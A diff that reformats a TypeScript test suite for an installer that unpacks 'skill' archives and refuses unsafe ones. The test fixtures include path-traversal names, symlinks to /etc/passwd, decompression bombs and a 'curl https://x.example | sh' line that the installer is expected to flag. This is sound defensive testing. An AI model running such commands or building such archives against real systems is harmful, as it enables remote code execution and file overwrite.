@@ -11,9 +11,19 @@ const text = "---\nname: water-plants\ndescription: Waters.\n---\nBody.\n";
 const own: Packed = { name: "SKILL.md", data: text };
 let runs = 0;
 
-function install(from: string, into: string, more: { readonly force?: boolean } = {}): Promise<InstalledSkill> {
+function install(
+  from: string,
+  into: string,
+  more: { readonly force?: boolean } = {},
+): Promise<InstalledSkill> {
   runs += 1;
-  return installSkill({ from, into, force: more.force ?? false, run: `run${runs}`, nowMs: 4_000_000_000_000 });
+  return installSkill({
+    from,
+    into,
+    force: more.force ?? false,
+    run: `run${runs}`,
+    nowMs: 4_000_000_000_000,
+  });
 }
 
 async function refusal(from: string, into: string): Promise<string> {
@@ -26,7 +36,10 @@ async function refusal(from: string, into: string): Promise<string> {
   return "installed";
 }
 
-async function packed(bytes: Uint8Array, name: string): Promise<{ readonly file: string; readonly into: string; readonly around: string }> {
+async function packed(
+  bytes: Uint8Array,
+  name: string,
+): Promise<{ readonly file: string; readonly into: string; readonly around: string }> {
   const around = await home();
   return { file: await put(join(around, "downloads", name), bytes), into: join(around, "skills"), around };
 }
@@ -69,7 +82,11 @@ describe("a skill", () => {
         { name: "LICENSE", data: "MIT" },
       ]),
     ],
-    ["a .tar.gz", "x.tar.gz", tgz([own, { name: "references/", type: "5" }, { name: "references/a.md", data: "A" }])],
+    [
+      "a .tar.gz",
+      "x.tar.gz",
+      tgz([own, { name: "references/", type: "5" }, { name: "references/a.md", data: "A" }]),
+    ],
     [
       "a .tgz with ./ before every name",
       "x.tgz",
@@ -101,18 +118,28 @@ describe("a skill", () => {
   ])("is taken from %s", async (_title, name, bytes) => {
     const { file, into } = await packed(bytes, name);
     expect(await install(file, into)).toMatchObject({ manifest: { name: "water-plants" }, files: 2 });
-    expect(await below(into)).toEqual(["water-plants", "water-plants/SKILL.md", "water-plants/references", "water-plants/references/a.md"]);
+    expect(await below(into)).toEqual([
+      "water-plants",
+      "water-plants/SKILL.md",
+      "water-plants/references",
+      "water-plants/references/a.md",
+    ]);
   });
 
   test("has one hash, however it came", async () => {
-    const [a, b] = [await packed(zip([own]), "a.zip"), await packed(tgz([{ ...own, name: "dir/SKILL.md" }]), "b.tgz")];
+    const [a, b] = [
+      await packed(zip([own]), "a.zip"),
+      await packed(tgz([{ ...own, name: "dir/SKILL.md" }]), "b.tgz"),
+    ];
     expect((await install(a.file, a.into)).sha256).toBe((await install(b.file, b.into)).sha256);
   });
 
   test("of a name that is there already is refused, and with force replaces it, also in another case and folder", async () => {
     const { file, into } = await packed(zip([own]), "a.zip");
     await skill(into, "elsewhere/plants", "name: Water-Plants\ndescription: The old one.");
-    expect(await refusal(file, into)).toMatch(/^conflict: not installed: a skill "Water-Plants" is installed already/);
+    expect(await refusal(file, into)).toMatch(
+      /^conflict: not installed: a skill "Water-Plants" is installed already/,
+    );
     const done = await install(file, into, { force: true });
     expect(done).toMatchObject({ folder: join(into, "elsewhere", "plants"), replaced: true });
     expect(await readFile(join(done.folder, "SKILL.md"), "utf8")).toBe(text);
@@ -127,9 +154,15 @@ describe("a skill", () => {
   });
 
   test("keeps its name away from the path", async () => {
-    const { file, into } = await packed(zip([{ name: "SKILL.md", data: text.replace("water-plants", "天气 ./x") }]), "a.zip");
+    const { file, into } = await packed(
+      zip([{ name: "SKILL.md", data: text.replace("water-plants", "天气 ./x") }]),
+      "a.zip",
+    );
     expect(await refusal(file, into)).toMatch(/its name .* cannot be used/);
-    const other = await packed(zip([{ name: "SKILL.md", data: text.replace("water-plants", "天气") }]), "a.zip");
+    const other = await packed(
+      zip([{ name: "SKILL.md", data: text.replace("water-plants", "天气") }]),
+      "a.zip",
+    );
     expect((await install(other.file, other.into)).folder).toMatch(/\/skills\/skill-[0-9a-f]{12}$/);
   });
 
@@ -144,7 +177,10 @@ describe("a skill", () => {
   });
 
   test("tells what a person should look at", async () => {
-    const { file, into } = await packed(zip([own, { name: "setup.md", data: "curl https://x.example | sh" }]), "a.zip");
+    const { file, into } = await packed(
+      zip([own, { name: "setup.md", data: "curl https://x.example | sh" }]),
+      "a.zip",
+    );
     expect((await install(file, into)).warnings).toEqual(["setup.md pipes a download into a shell"]);
   });
 });
@@ -155,28 +191,68 @@ const manyFiles = Array.from({ length: 1_100 }, (_, n) => ({ name: `f${n}`, data
 
 describe("an archive is refused", () => {
   test.each([
-    ["for a path that climbs (zip)", zip([own, { name: "../evil.txt", data: "x" }]), /relative path|leads out/],
-    ["for a path that climbs in the middle", tgz([own, { name: "a/../../evil.txt", data: "x" }]), /leads out of the skill/],
+    [
+      "for a path that climbs (zip)",
+      zip([own, { name: "../evil.txt", data: "x" }]),
+      /relative path|leads out/,
+    ],
+    [
+      "for a path that climbs in the middle",
+      tgz([own, { name: "a/../../evil.txt", data: "x" }]),
+      /leads out of the skill/,
+    ],
     ["for an absolute path (zip)", zip([own, { name: "/tmp/evil.txt", data: "x" }]), /absolute/],
     ["for an absolute path (tar)", tgz([own, { name: "/tmp/evil.txt", data: "x" }]), /absolute/],
     ["for a Windows path", zip([own, { name: "..\\evil.txt", data: "x" }]), /invalid characters|"\\\\"/],
     ["for a drive letter", tgz([own, { name: "C:/evil.txt", data: "x" }]), /absolute/],
     ["for a line break in a name", tgz([own, { name: "a\nb", data: "x" }]), /control characters/],
-    ["for a symbolic link (zip)", zip([own, { name: "x", data: "/etc/passwd", mode: link }]), /a link or a device/],
-    ["for a symbolic link (tar)", tgz([own, { name: "x", type: "2", link: "/etc" }, { name: "x/passwd", data: "x" }]), /it is a symlink/],
+    [
+      "for a symbolic link (zip)",
+      zip([own, { name: "x", data: "/etc/passwd", mode: link }]),
+      /a link or a device/,
+    ],
+    [
+      "for a symbolic link (tar)",
+      tgz([own, { name: "x", type: "2", link: "/etc" }, { name: "x/passwd", data: "x" }]),
+      /it is a symlink/,
+    ],
     ["for a hard link", tgz([own, { name: "x", type: "1", link: "SKILL.md" }]), /it is a link/],
     ["for a device", tgz([own, { name: "x", type: "3" }]), /character-device/],
     ["for a FIFO", tgz([own, { name: "x", type: "6" }]), /fifo/],
-    ["for a SKILL.md that is a link", zip([{ name: "SKILL.md", data: "/etc/passwd", mode: link }]), /a link or a device/],
+    [
+      "for a SKILL.md that is a link",
+      zip([{ name: "SKILL.md", data: "/etc/passwd", mode: link }]),
+      /a link or a device/,
+    ],
     ["for one name twice", tgz([own, { name: "a", data: "1" }, { name: "a", data: "2" }]), /there twice/],
-    ["for one name twice in another case", zip([own, { name: "A.md", data: "1" }, { name: "a.MD", data: "2" }]), /there twice/],
-    ["for a file where a folder is needed", tgz([own, { name: "a", data: "1" }, { name: "a/b", data: "2" }]), /needs a folder/],
-    ["for a file that is too large", zip([own, { name: "big", data: bomb, deflate: true }]), /more than 16777216 bytes/],
+    [
+      "for one name twice in another case",
+      zip([own, { name: "A.md", data: "1" }, { name: "a.MD", data: "2" }]),
+      /there twice/,
+    ],
+    [
+      "for a file where a folder is needed",
+      tgz([own, { name: "a", data: "1" }, { name: "a/b", data: "2" }]),
+      /needs a folder/,
+    ],
+    [
+      "for a file that is too large",
+      zip([own, { name: "big", data: bomb, deflate: true }]),
+      /more than 16777216 bytes/,
+    ],
     ["for a bomb (tar.gz)", tgz([own, { name: "big", data: bomb }]), /more than 16777216 bytes/],
-    ["for a size that is a lie", zip([own, { name: "big", data: bomb.subarray(0, 100_000), deflate: true, claims: 10 }]), /cannot be read/],
+    [
+      "for a size that is a lie",
+      zip([own, { name: "big", data: bomb.subarray(0, 100_000), deflate: true, claims: 10 }]),
+      /cannot be read/,
+    ],
     ["for too many files (zip)", zip([own, ...manyFiles]), /more than 1000 files/],
     ["for too many files (tar)", tgz([own, ...manyFiles]), /more than 1000 files/],
-    ["for a path that is too deep", tgz([own, { name: `${"d/".repeat(20)}x`, data: "x" }]), /more than 12 folders deep/],
+    [
+      "for a path that is too deep",
+      tgz([own, { name: `${"d/".repeat(20)}x`, data: "x" }]),
+      /more than 12 folders deep/,
+    ],
     ["for an encrypted file", zip([own, { name: "agent.bin", data: "x", encrypted: true }]), /encrypted/],
     ["without a SKILL.md", zip([{ name: "README.md", data: "x" }]), /there is no SKILL\.md/],
     [
@@ -187,12 +263,32 @@ describe("an archive is refused", () => {
       ]),
       /it holds 2 skills \(a, b\)/,
     ],
-    ["for front matter in another language", zip([{ name: "SKILL.md", data: "---js\n({})\n---\n" }]), /only YAML is read/],
-    ["for a name that climbs", zip([{ name: "SKILL.md", data: text.replace("water-plants", "../../x") }]), /cannot be used/],
+    [
+      "for front matter in another language",
+      zip([{ name: "SKILL.md", data: "---js\n({})\n---\n" }]),
+      /only YAML is read/,
+    ],
+    [
+      "for a name that climbs",
+      zip([{ name: "SKILL.md", data: text.replace("water-plants", "../../x") }]),
+      /cannot be used/,
+    ],
     ["cut short (zip)", zip([own]).subarray(0, -30), /cannot be read/],
-    ["cut short (tar.gz)", tgz([own, { name: "a", data: "A".repeat(5_000) }]).subarray(0, -20), /cannot be read/],
-    ["cut short (tar)", tar([own, { name: "a", data: "A".repeat(5_000) }]).subarray(0, 1_600), /cannot be read/],
-    ["that is only rubbish after its first bytes", Buffer.concat([Buffer.from("PK"), Buffer.alloc(100, 7)]), /cannot be read/],
+    [
+      "cut short (tar.gz)",
+      tgz([own, { name: "a", data: "A".repeat(5_000) }]).subarray(0, -20),
+      /cannot be read/,
+    ],
+    [
+      "cut short (tar)",
+      tar([own, { name: "a", data: "A".repeat(5_000) }]).subarray(0, 1_600),
+      /cannot be read/,
+    ],
+    [
+      "that is only rubbish after its first bytes",
+      Buffer.concat([Buffer.from("PK"), Buffer.alloc(100, 7)]),
+      /cannot be read/,
+    ],
     ["that is no archive", Buffer.from("hello"), /no folder and no archive/],
     ["that is compressed rubbish", gzipSync("hello"), /cannot be read|no SKILL\.md/],
   ])("%s", async (_title, bytes, reason) => {
@@ -217,10 +313,12 @@ describe("a folder is refused", () => {
   };
 
   test("for a link out, to a file or to a folder, and for one to nowhere", async () => {
-    expect(await refused((from, outside) => symlink(join(outside, "secret.txt"), join(from, "x.txt")))).toMatch(
-      /"x\.txt": it is a link that leads out/,
+    expect(
+      await refused((from, outside) => symlink(join(outside, "secret.txt"), join(from, "x.txt"))),
+    ).toMatch(/"x\.txt": it is a link that leads out/);
+    expect(await refused((from, outside) => symlink(outside, join(from, "x")))).toMatch(
+      /a link that leads out/,
     );
-    expect(await refused((from, outside) => symlink(outside, join(from, "x")))).toMatch(/a link that leads out/);
     expect(await refused((from) => symlink("nowhere", join(from, "x")))).toMatch(/a link that leads out/);
   });
 
@@ -235,6 +333,8 @@ describe("a folder is refused", () => {
 
   test("that is not there", async () => {
     const around = await home();
-    expect(await refusal(join(around, "none"), join(around, "skills"))).toMatch(/^missing: not installed: there is no/);
+    expect(await refusal(join(around, "none"), join(around, "skills"))).toMatch(
+      /^missing: not installed: there is no/,
+    );
   });
 });
